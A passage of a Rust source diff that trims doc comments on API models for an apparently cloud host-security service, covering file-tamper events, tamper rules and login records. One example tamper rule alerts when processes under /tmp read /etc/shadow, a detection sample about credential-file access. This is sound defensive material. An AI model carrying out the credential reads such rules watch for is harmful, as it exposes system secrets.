-    ///
-    /// Example: `"123,234"`
+    /// `Ids`; example: `"123,234"`
     pub ids: String,
 }
 
@@ -5545,14 +3591,10 @@ pub struct EventPatchInfo {
 /// Returned in the output of [`DescribeSecurityEventStat`](super::DescribeSecurityEventStat).
 #[tc_model]
 pub struct EventStat {
-    /// `EventsNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `EventsNum`; example: `0`
     pub events_num: u64,
 
-    /// `MachineAffectNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `MachineAffectNum`; example: `0`
     pub machine_affect_num: u64,
 }
 
@@ -5561,64 +3603,40 @@ pub struct EventStat {
 /// Returned in the output of [`DescribeLogExports`](super::DescribeLogExports).
 #[tc_model]
 pub struct ExportInfo {
-    /// `ExportId`: a string.
-    ///
-    /// Example: `"export-d0ef1b2c-64f6-4193-b251-e583a810****"`
+    /// `ExportId`; example: `"export-d0ef1b2c-64f6-4193-b251-e583a810****"`
     pub export_id: String,
 
-    /// `Query`: a string.
-    ///
-    /// Example: `"dev"`
+    /// `Query`; example: `"dev"`
     pub query: String,
 
-    /// `FileName`: a string.
-    ///
-    /// Example: `"fielaName.txt"`
+    /// `FileName`; example: `"fielaName.txt"`
     pub file_name: String,
 
-    /// `FileSize`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `FileSize`; example: `0`
     pub file_size: i64,
 
-    /// `Order`: a string.
-    ///
-    /// Example: `"desc"`
+    /// `Order`; example: `"desc"`
     pub order: String,
 
-    /// `Format`: a string.
-    ///
-    /// Example: `"json"`
+    /// `Format`; example: `"json"`
     pub format: String,
 
-    /// `Count`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Count`; example: `0`
     pub count: i64,
 
-    /// `Status`: a string.
-    ///
-    /// Example: `"Complete"`
+    /// `Status`; example: `"Complete"`
     pub status: String,
 
-    /// `StartTime`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `StartTime`; example: `0`
     pub start_time: i64,
 
-    /// `EndTime`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `EndTime`; example: `0`
     pub end_time: i64,
 
-    /// `CosPath`: a string.
-    ///
-    /// Example: `"https://"`
+    /// `CosPath`; example: `"https://"`
     pub cos_path: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-11-01 10:1****"`
+    /// `CreateTime`; example: `"2024-11-01 10:1****"`
     pub create_time: String,
 }
 
@@ -5627,19 +3645,13 @@ pub struct ExportInfo {
 /// Returned in the output of [`DescribeFastAnalysis`](super::DescribeFastAnalysis).
 #[tc_model]
 pub struct FieldValueRatioInfo {
-    /// `Count`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Count`; example: `0`
     pub count: i64,
 
-    /// `Ratio`: a floating-point number.
-    ///
-    /// Example: `0.5`
+    /// `Ratio`; example: `0.5`
     pub ratio: f64,
 
-    /// `Value`: a string.
-    ///
-    /// Example: `"value"`
+    /// `Value`; example: `"value"`
     pub value: String,
 }
 
@@ -5648,190 +3660,118 @@ pub struct FieldValueRatioInfo {
 /// Returned in the output of [`DescribeFileTamperEvents`](super::DescribeFileTamperEvents).
 #[tc_model]
 pub struct FileTamperEvent {
-    /// `HostName`: a string.
-    ///
-    /// Example: `"test-agent-"`
+    /// `HostName`; example: `"test-agent-"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `HostIp`; example: `"10.0.0.1"`
     pub host_ip: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-10-28 20:23:23"`
+    /// `CreateTime`; example: `"2024-10-28 20:23:23"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-10-28 20:23:23"`
+    /// `ModifyTime`; example: `"2024-10-28 20:23:23"`
     pub modify_time: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Type`; example: `0`
     pub r#type: u64,
 
-    /// `ProcessExe`: a string.
-    ///
-    /// Example: `"/tmp/test"`
+    /// `ProcessExe`; example: `"/tmp/test"`
     pub process_exe: String,
 
-    /// `ProcessArgv`: a string.
-    ///
-    /// Example: `"vim /home/seadmin/.ba****"`
+    /// `ProcessArgv`; example: `"vim /home/seadmin/.ba****"`
     pub process_argv: String,
 
-    /// `Target`: a string.
-    ///
-    /// Example: `"/home/seadmin/.ba****"`
+    /// `Target`; example: `"/home/seadmin/.ba****"`
     pub target: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `EventCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventCount`; example: `1`
     pub event_count: u64,
 
-    /// `RuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleId`; example: `1`
     pub rule_id: u64,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"系统策略-篡改****"`
+    /// `RuleName`; example: `"系统策略-篡改****"`
     pub rule_name: String,
 
-    /// `Pstree`: a string.
+    /// `Pstree`
     pub pstree: String,
 
-    /// `RuleCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RuleCategory`; example: `0`
     pub rule_category: u64,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"ONLINE"`
+    /// `MachineStatus`; example: `"ONLINE"`
     pub machine_status: String,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"检测到用户配置文****"`
+    /// `Description`; example: `"检测到用户配置文****"`
     pub description: String,
 
-    /// `Suggestion`: a string.
-    ///
-    /// Example: `"排查是否为正常业务需要的****"`
+    /// `Suggestion`; example: `"排查是否为正常业务需要的****"`
     pub suggestion: String,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `PrivateIp`; example: `"10.0.0.1"`
     pub private_ip: String,
 
-    /// `ExePermission`: a string.
-    ///
-    /// Example: `"rwx"`
+    /// `ExePermission`; example: `"rwx"`
     pub exe_permission: String,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserName`; example: `"root"`
     pub user_name: String,
 
-    /// `UserGroup`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserGroup`; example: `"root"`
     pub user_group: String,
 
-    /// `ExeMd5`: a string.
-    ///
-    /// Example: `"0c0f9309e69d2912ae5242d144bc****"`
+    /// `ExeMd5`; example: `"0c0f9309e69d2912ae5242d144bc****"`
     pub exe_md5: String,
 
-    /// `ExeSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `ExeSize`; example: `100`
     pub exe_size: u64,
 
-    /// `ExeTime`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1000`
+    /// `ExeTime`; example: `1000`
     pub exe_time: u64,
 
-    /// `TargetSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1000`
+    /// `TargetSize`; example: `1000`
     pub target_size: u64,
 
-    /// `TargetPermission`: a string.
-    ///
-    /// Example: `"rwx"`
+    /// `TargetPermission`; example: `"rwx"`
     pub target_permission: String,
 
-    /// `TargetModifyTime`: a string.
-    ///
-    /// Example: `"2021-01-02 15:04:05"`
+    /// `TargetModifyTime`; example: `"2021-01-02 15:04:05"`
     pub target_modify_time: String,
 
-    /// `TargetCreatTime`: a string.
-    ///
-    /// Example: `"2021-01-02 15:04:05"`
+    /// `TargetCreatTime`; example: `"2021-01-02 15:04:05"`
     pub target_creat_time: String,
 
-    /// `ExePid`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ExePid`; example: `1`
     pub exe_pid: u64,
 
-    /// `TargetName`: a string.
-    ///
-    /// Example: `".bashrc"`
+    /// `TargetName`; example: `".bashrc"`
     pub target_name: String,
 
-    /// `Reference`: a string.
-    ///
-    /// Example: `"http://www.**.com/**"`
+    /// `Reference`; example: `"http://www.**.com/**"`
     pub reference: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `ExeName`: a string.
-    ///
-    /// Example: `"vim"`
+    /// `ExeName`; example: `"vim"`
     pub exe_name: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `FileAction`: a string.
-    ///
-    /// Example: `"read"`
+    /// `FileAction`; example: `"read"`
     pub file_action: String,
 }
 
@@ -5841,30 +3781,19 @@ pub struct FileTamperEvent {
 /// Returned in the output of [`DescribeFileTamperEventRuleInfo`](super::DescribeFileTamperEventRuleInfo), [`DescribeFileTamperRuleInfo`](super::DescribeFileTamperRuleInfo) and [`DescribeMachineFileTamperRules`](super::DescribeMachineFileTamperRules).
 #[tc_model]
 pub struct FileTamperRule {
-    /// `ProcessPath`: a string.
-    ///
-    /// Example: `"/tmp/*"`
+    /// `ProcessPath`; example: `"/tmp/*"`
     pub process_path: String,
 
-    /// `Target`: a string.
-    ///
-    /// Example: `"/etc/shadow"`
+    /// `Target`; example: `"/etc/shadow"`
     pub target: String,
 
-    /// `Action`: a string.
-    ///
-    /// Example: `"alert"`
+    /// `Action`; example: `"alert"`
     pub action: String,
 
-    /// `FileAction`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"read"`
+    /// `FileAction`, always sent in responses; example: `"read"`
     pub file_action: Option<String>,
 
-    /// `Args`: a string.
-    ///
-    /// Example: `"timeout=200"`
+    /// `Args`; example: `"timeout=200"`
     pub args: Option<String>,
 }
 
@@ -5873,19 +3802,13 @@ pub struct FileTamperRule {
 /// Returned in the output of [`DescribeFileTamperRuleCount`](super::DescribeFileTamperRuleCount).
 #[tc_model]
 pub struct FileTamperRuleCount {
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
+    /// `Uuid`; example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
     pub uuid: String,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Count`; example: `1`
     pub count: u64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"240701jupyter定时****"`
+    /// `Name`; example: `"240701jupyter定时****"`
     pub name: String,
 }
 
@@ -5894,57 +3817,37 @@ pub struct FileTamperRuleCount {
 /// Returned in the output of [`DescribeFileTamperEventRuleInfo`](super::DescribeFileTamperEventRuleInfo) and [`DescribeFileTamperRuleInfo`](super::DescribeFileTamperRuleInfo).
 #[tc_model]
 pub struct FileTamperRuleDetail {
-    /// `Name`: a string.
-    ///
-    /// Example: `"禁止访问"`
+    /// `Name`; example: `"禁止访问"`
     pub name: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-10-13T11:15:06+08:00"`
+    /// `ModifyTime`; example: `"2021-10-13T11:15:06+08:00"`
     pub modify_time: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-10-13T11:15:06+08:00"`
+    /// `CreateTime`; example: `"2021-10-13T11:15:06+08:00"`
     pub create_time: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `Rule`: a list of [`FileTamperRule`] objects.
+    /// `Rule`
     pub rule: Vec<FileTamperRule>,
 
-    /// `Uuids`: a list of strings.
-    ///
-    /// Example: `["935e27b1-d675-4509-80bf-96fbf0764237"]`
+    /// `Uuids`; example: `["935e27b1-d675-4509-80bf-96fbf0764237"]`
     pub uuids: Vec<String>,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsGlobal`; example: `1`
     pub is_global: u64,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `UuidTotalCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `17`
+    /// `UuidTotalCount`; example: `17`
     pub uuid_total_count: u64,
 
-    /// `AddWhiteType`: a string.
-    ///
-    /// Example: `"cur"`
+    /// `AddWhiteType`; example: `"cur"`
     pub add_white_type: String,
 }
 
@@ -5953,74 +3856,46 @@ pub struct FileTamperRuleDetail {
 /// Returned in the output of [`DescribeFileTamperRules`](super::DescribeFileTamperRules).
 #[tc_model]
 pub struct FileTamperRuleInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"禁止访问"`
+    /// `Name`; example: `"禁止访问"`
     pub name: String,
 
-    /// `RuleCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleCategory`; example: `1`
     pub rule_category: u64,
 
-    /// `HostCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `HostCount`; example: `12`
     pub host_count: u64,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `ModifyTime`; example: `"2021-03-30 19:17:28"`
     pub modify_time: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreateTime`; example: `"2021-03-30 19:17:28"`
     pub create_time: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Id`; example: `12`
     pub id: u64,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsGlobal`; example: `1`
     pub is_global: u64,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `3`
+    /// `Level`; example: `3`
     pub level: u64,
 
-    /// `WriteRuleCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `WriteRuleCount`; example: `1`
     pub write_rule_count: u64,
 
-    /// `ReadRuleCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ReadRuleCount`; example: `1`
     pub read_rule_count: u64,
 
-    /// `ReadWriteRuleCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ReadWriteRuleCount`; example: `1`
     pub read_write_rule_count: u64,
 
-    /// `FileAction`: a string.
-    ///
-    /// Example: `"read"`
+    /// `FileAction`; example: `"read"`
     pub file_action: String,
 
-    /// `AddWhiteType`: a string.
-    ///
-    /// Example: `"cur"`
+    /// `AddWhiteType`; example: `"cur"`
     pub add_white_type: String,
 }
 
@@ -6029,19 +3904,13 @@ pub struct FileTamperRuleInfo {
 /// Sent in the input of [`DescribeAccountStatistics`](super::DescribeAccountStatistics), [`DescribeAssetMachineList`](super::DescribeAssetMachineList), [`DescribeAssetPortInfoList`](super::DescribeAssetPortInfoList), [`DescribeAssetProcessInfoList`](super::DescribeAssetProcessInfoList), [`DescribeAssetSystemPackageList`](super::DescribeAssetSystemPackageList), [`DescribeAssetUserList`](super::DescribeAssetUserList) and 104 more.
 #[tc_model]
 pub struct Filter {
-    /// `Name`: a string.
-    ///
-    /// Example: `"Name"`
+    /// `Name`; example: `"Name"`
     pub name: String,
 
-    /// `Values`: a list of strings.
-    ///
-    /// Example: `["TA0010"]`
+    /// `Values`; example: `["TA0010"]`
     pub values: Vec<String>,
 
-    /// `ExactMatch`: a boolean.
-    ///
-    /// Example: `true`
+    /// `ExactMatch`; example: `true`
     pub exact_match: Option<bool>,
 }
 
@@ -6050,19 +3919,13 @@ pub struct Filter {
 /// Sent in the input of [`DescribeBaselineEffectHostList`](super::DescribeBaselineEffectHostList), [`DescribeBaselineList`](super::DescribeBaselineList), [`DescribeCanNotSeparateMachine`](super::DescribeCanNotSeparateMachine), [`DescribeEmergencyVulList`](super::DescribeEmergencyVulList), [`DescribeFileTamperEvents`](super::DescribeFileTamperEvents), [`DescribeFileTamperRules`](super::DescribeFileTamperRules) and 47 more.
 #[tc_model]
 pub struct Filters {
-    /// `Name`: a string.
-    ///
-    /// Example: `"Name"`
+    /// `Name`; example: `"Name"`
     pub name: String,
 
-    /// `Values`: a list of strings.
-    ///
-    /// Example: `["value"]`
+    /// `Values`; example: `["value"]`
     pub values: Vec<String>,
 
-    /// `ExactMatch`: a boolean.
-    ///
-    /// Example: `false`
+    /// `ExactMatch`; example: `false`
     pub exact_match: Option<bool>,
 }
 
@@ -6071,19 +3934,13 @@ pub struct Filters {
 /// Returned in the output of [`DescribeLogIndex`](super::DescribeLogIndex).
 #[tc_model]
 pub struct FullTextInfo {
-    /// `CaseSensitive`: a boolean.
-    ///
-    /// Example: `false`
+    /// `CaseSensitive`; example: `false`
     pub case_sensitive: bool,
 
-    /// `Tokenizer`: a string.
-    ///
-    /// Example: `"\\n\\t\\r"`
+    /// `Tokenizer`; example: `"\\n\\t\\r"`
     pub tokenizer: String,
 
-    /// `ContainZH`: a boolean.
-    ///
-    /// Example: `false`
+    /// `ContainZH`; example: `false`
     #[tc(rename = "ContainZH")]
     pub contain_zh: bool,
 }
@@ -6093,39 +3950,25 @@ pub struct FullTextInfo {
 /// Returned in the output of [`DescribeHistoryAccounts`](super::DescribeHistoryAccounts).
 #[tc_model]
 pub struct HistoryAccount {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
+    /// `Uuid`; example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
     pub uuid: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"1.2.3.4"`
+    /// `MachineIp`; example: `"1.2.3.4"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"stone"`
+    /// `MachineName`; example: `"stone"`
     pub machine_name: String,
 
-    /// `Username`: a string.
-    ///
-    /// Example: `"user1"`
+    /// `Username`; example: `"user1"`
     pub username: String,
 
-    /// `ModifyType`: a string.
-    ///
-    /// Example: `"CREATE"`
+    /// `ModifyType`; example: `"CREATE"`
     pub modify_type: String,
 
-    /// `ModifyTime`: a date and time, as the service writes it.
-    ///
-    /// Example: `"2020-01-01 01:01:01"`
+    /// `ModifyTime`, a date and time as the service writes it; example: `"2020-01-01 01:01:01"`
     pub modify_time: String,
 }
 
@@ -6134,34 +3977,22 @@ pub struct HistoryAccount {
 /// Returned in the output of [`DescribeLoginWhiteHostList`](super::DescribeLoginWhiteHostList).
 #[tc_model]
 pub struct HostDesc {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
+    /// `Quuid`; example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
+    /// `Uuid`; example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
     pub uuid: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"ins-dhahjkda"`
+    /// `MachineName`; example: `"ins-dhahjkda"`
     pub machine_name: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineIp`; example: `"1.1.1.1"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `Tags`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `Tags`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub tags: Vec<MachineTag>,
 }
 
@@ -6170,14 +4001,10 @@ pub struct HostDesc {
 /// Sent in the input of [`AddLoginWhiteLists`](super::AddLoginWhiteLists) and [`ModifyLoginWhiteRecord`](super::ModifyLoginWhiteRecord).
 #[tc_model]
 pub struct HostInfo {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
+    /// `Quuid`; example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
+    /// `Uuid`; example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
     pub uuid: String,
 }
 
@@ -6186,152 +4013,98 @@ pub struct HostInfo {
 /// Returned in the output of [`DescribeHostLoginList`](super::DescribeHostLoginList).
 #[tc_model]
 pub struct HostLoginList {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10001`
+    /// `Id`; example: `10001`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
+    /// `Uuid`; example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
     pub uuid: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"192.18.**.**"`
+    /// `MachineIp`; example: `"192.18.**.**"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"ins-dhadhf"`
+    /// `MachineName`; example: `"ins-dhadhf"`
     pub machine_name: String,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserName`; example: `"root"`
     pub user_name: String,
 
-    /// `SrcIp`: a string.
-    ///
-    /// Example: `"192.18.**.**"`
+    /// `SrcIp`; example: `"192.18.**.**"`
     pub src_ip: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `Country`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Country`; example: `1`
     pub country: u64,
 
-    /// `City`: an unsigned 64-bit integer.
-    ///
-    /// Example: `23`
+    /// `City`; example: `23`
     pub city: u64,
 
-    /// `Province`: an unsigned 64-bit integer.
-    ///
-    /// Example: `101`
+    /// `Province`; example: `101`
     pub province: u64,
 
-    /// `LoginTime`: a string.
-    ///
-    /// Example: `"2024-10-30 15:58:43"`
+    /// `LoginTime`; example: `"2024-10-30 15:58:43"`
     pub login_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-10-30 15:58:43"`
+    /// `ModifyTime`; example: `"2024-10-30 15:58:43"`
     pub modify_time: String,
 
-    /// `IsRiskArea`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsRiskArea`; example: `1`
     pub is_risk_area: u64,
 
-    /// `IsRiskUser`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsRiskUser`; example: `1`
     pub is_risk_user: u64,
 
-    /// `IsRiskTime`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsRiskTime`; example: `1`
     pub is_risk_time: u64,
 
-    /// `IsRiskSrcIp`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsRiskSrcIp`; example: `1`
     pub is_risk_src_ip: u64,
 
-    /// `RiskLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RiskLevel`; example: `1`
     pub risk_level: u64,
 
-    /// `Location`: a string.
-    ///
-    /// Example: `"中国:北京市:北京市"`
+    /// `Location`; example: `"中国:北京市:北京市"`
     pub location: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
+    /// `Quuid`; example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
     pub quuid: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"ABROAD"`
+    /// `Desc`; example: `"ABROAD"`
     pub desc: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `Port`: a signed 64-bit integer.
-    ///
-    /// Example: `3306`
+    /// `Port`; example: `3306`
     pub port: i64,
 
-    /// `IPAnalyse`: an [`IpAnalyse`].
+    /// `IPAnalyse`
     #[tc(rename = "IPAnalyse")]
     pub ip_analyse: Option<IpAnalyse>,
 
-    /// `HitRule`: a string.
-    ///
-    /// Example: `"risk_login_1"`
+    /// `HitRule`; example: `"risk_login_1"`
     pub hit_rule: Option<String>,
 
-    /// `HitRuleName`: a string.
-    ///
-    /// Example: `"威胁情报"`
+    /// `HitRuleName`; example: `"威胁情报"`
     pub hit_rule_name: Option<String>,
 
-    /// `AlertCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AlertCount`; example: `1`
     pub alert_count: Option<i64>,
 
-    /// `FirstDiscoverTime`: a string.
-    ///
-    /// Example: `"2026-08-27 20:15:02"`
+    /// `FirstDiscoverTime`; example: `"2026-08-27 20:15:02"`
     pub first_discover_time: Option<String>,
 
-    /// `LastDiscoverTime`: a string.
-    ///
-    /// Example: `"2026-09-04 16:02:13"`
+    /// `LastDiscoverTime`; example: `"2026-09-04 16:02:13"`
     pub last_discover_time: Option<String>,
 
-    /// `HarmDescribe`: a string.
-    ///
-    /// Example: `"该登录来源 IP 在威胁情报平台被标记为恶意 IP，判定为异常登录。"`
+    /// `HarmDescribe`; example: `"该登录来源 IP 在威胁情报平台被标记为恶意 IP，判定为异常登录。"`
     pub harm_describe: Option<String>,
 
-    /// `SuggestScheme`: a string.
+    /// `SuggestScheme`
     pub suggest_scheme: Option<String>,
 
-    /// `RecentLoginList`: a list of [`RecentLoginItem`] objects.
+    /// `RecentLoginList`
     pub recent_login_list: Option<Vec<RecentLoginItem>>,
 }
 
@@ -6340,40 +4113,28 @@ pub struct HostLoginList {
 /// Sent in the input of [`AddLoginWhiteLists`](super::AddLoginWhiteLists).
 #[tc_model]
 pub struct HostLoginWhiteObj {
-    /// `Places`: a list of [`Place`] objects.
+    /// `Places`
     pub places: Vec<Place>,
 
-    /// `SrcIp`: a string.
-    ///
-    /// Example: `"10.0.1.11"`
+    /// `SrcIp`; example: `"10.0.1.11"`
     pub src_ip: String,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserName`; example: `"root"`
     pub user_name: String,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsGlobal`; example: `1`
     pub is_global: u64,
 
-    /// `HostInfos`: a list of [`HostInfo`] objects.
+    /// `HostInfos`
     pub host_infos: Vec<HostInfo>,
 
-    /// `Remark`: a string.
-    ///
-    /// Example: `"内部使用"`
+    /// `Remark`; example: `"内部使用"`
     pub remark: Option<String>,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"08:00"`
+    /// `StartTime`; example: `"08:00"`
     pub start_time: Option<String>,
 
-    /// `EndTime`: a string.
-    ///
-    /// Example: `"22:00"`
+    /// `EndTime`; example: `"22:00"`
     pub end_time: Option<String>,
 }
 
@@ -6382,34 +4143,22 @@ pub struct HostLoginWhiteObj {
 /// Returned in the output of [`DescribeBaselineHostRiskTop`](super::DescribeBaselineHostRiskTop).
 #[tc_model]
 pub struct HostRiskLevelCount {
-    /// `HostId`: a string.
-    ///
-    /// Example: `"1"`
+    /// `HostId`; example: `"1"`
     pub host_id: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `HostName`; example: `"1"`
     pub host_name: String,
 
-    /// `SeriousCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SeriousCount`; example: `1`
     pub serious_count: i64,
 
-    /// `HighCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HighCount`; example: `1`
     pub high_count: i64,
 
-    /// `MediumCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `MediumCount`; example: `1`
     pub medium_count: i64,
 
-    /// `LowCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `LowCount`; example: `1`
     pub low_count: i64,
 }
 
@@ -6418,80 +4167,50 @@ pub struct HostRiskLevelCount {
 /// Returned in the output of [`DescribeHostInfo`](super::DescribeHostInfo).
 #[tc_model]
 pub struct HostTagInfo {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `TagList`: a list of strings.
-    ///
-    /// Example: `["dev"]`
+    /// `TagList`; example: `["dev"]`
     pub tag_list: Vec<String>,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"1.2.3.4"`
+    /// `HostIp`; example: `"1.2.3.4"`
     pub host_ip: String,
 
-    /// `AliasName`: a string.
-    ///
-    /// Example: `"hostname"`
+    /// `AliasName`; example: `"hostname"`
     pub alias_name: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `MachineWanIp`; example: `"10.0.0.1"`
     pub machine_wan_ip: String,
 
-    /// `Uuid`: a string.
-    ///
